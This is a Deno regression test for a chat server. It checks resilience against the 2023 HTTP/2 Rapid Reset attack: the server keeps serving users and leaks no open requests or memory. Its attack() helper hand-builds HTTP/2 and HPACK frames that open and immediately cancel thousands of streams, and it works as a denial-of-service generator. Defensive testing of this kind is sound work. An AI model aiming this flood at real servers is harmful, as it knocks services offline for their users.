/**
 * HTTP/2 without TLS is accepted by the runtime, so the attack of 2023 is, too:
 * requests by the thousand, each taken back at once.
 */
import assert from "node:assert/strict";
import { startServer } from "@/tests/support/server.ts";
import { signUpAt } from "@/tests/support/talkers.ts";
import { memoryOf } from "@/tests/support/wire.ts";

const RESETS = 4_000;
const MEGABYTE = 1024 * 1024;

Deno.test("K2 thousands of HTTP/2 requests that are taken back at once leave nothing open, and others are served meanwhile", async () => {
  await using server = await startServer({
    env: { REGISTRATION: "open", LOG_LEVEL: "silent" },
  });
  const { origin, process } = server;
  const maya = await signUpAt(origin, "maya");
  await signUpAt(origin, "jonas");
  const conversation = await maya.converse("direct", ["jonas"]);
  await maya.send(conversation, "before");
  const before = await memoryOf(process.pid);

  let [sent, sessions] = [0, 0];
  const attacking = (async () => {
    while (sent < RESETS) {
      sessions++;
      sent += await attack(origin, RESETS - sent);
    }
  })();
  let slowest = 0;
  for (let n = 0; n < 20; n++) {
    const began = performance.now();
    const post = await maya.send(conversation, `meanwhile ${n}`);
    slowest = Math.max(slowest, performance.now() - began);
    assert.equal(post.outcome, "acknowledged");
  }
  await attacking;
  let open = NaN;
  for (let i = 0; i < 40 && open !== 1; i++) {
    const text = await (await fetch(`${origin}/metrics`)).text();
    open = Number(/^parley_open_requests (\d+)/m.exec(text)?.[1]);
    await new Promise((done) => setTimeout(done, 100));
  }
  const grown = (await memoryOf(process.pid) - before) / MEGABYTE;
  console.log(
    `${sent} resets in ${sessions} connections, ${
      Math.round(grown)
    } MB more, slowest send ${Math.round(slowest)} ms`,
  );
  assert.equal(open, 1, "requests that were taken back are still open");
  assert.ok(grown < 150, `${grown} MB`);
  assert.ok(slowest < 3_000, `${slowest} ms`);
});

/**
 * Resets over one connection until the server has had enough of it. The frames
 * are written by hand: the runtime's own HTTP/2 client, used like this, now and
 * then takes the whole process down with it.
 * @returns how many
 */
async function attack(origin: string, most: number): Promise<number> {
  const { hostname, port, host } = new URL(origin);
  using connection = await Deno.connect({ hostname, port: Number(port) });
  let open = true;
  const answers = (async () => {
    const buffer = new Uint8Array(65_536);
    while (await connection.read(buffer).catch(() => null) !== null);
    open = false;
  })();
  const write = async (bytes: Uint8Array) => {
    for (let at = 0; open && at < bytes.length;) {
      // The server may end the connection meanwhile: that is a defence.
      const written = await connection.write(bytes.subarray(at)).catch(() => 0);
      if (written === 0) open = false;
      at += written;
    }
  };
  await write(new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
  await write(frame(SETTINGS, 0, 0, []));
  let sent = 0;
  const request = requestFor("/sign-in", host);
  while (open && sent < most) {
    const burst: number[] = [];
    for (let i = 0; i < 50 && sent < most; i++, sent++) {
      const stream = 2 * sent + 1;
      burst.push(...frame(HEADERS, END_HEADERS | END_STREAM, stream, request));
      burst.push(...frame(RST_STREAM, 0, stream, [0, 0, 0, CANCEL]));
    }
    await write(new Uint8Array(burst));
    await new Promise((done) => setTimeout(done, 1));
  }
  if (open) await connection.closeWrite().catch(() => {});
  await Promise.race([answers, new Promise((done) => setTimeout(done, 500))]);
  return sent;
}

// RFC 9113, sections 6 and 7.
const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = 8;

/** A frame (RFC 9113, section 4.1): length, type, flags, stream, payload. */
function frame(
  type: number,
  flags: number,
  stream: number,
  payload: readonly number[],
): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint16(1, payload.length);
  view.setUint8(3, type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

/** GET in HPACK (RFC 7541): two fields of the static table; path and host written out under its names. */
function requestFor(path: string, host: string): number[] {
  const text = (value: string) => [
    value.length,
    ...new TextEncoder().encode(value),
  ];
  return [0x82, 0x86, 0x04, ...text(path), 0x0f, 0x17, ...text(host)];
}
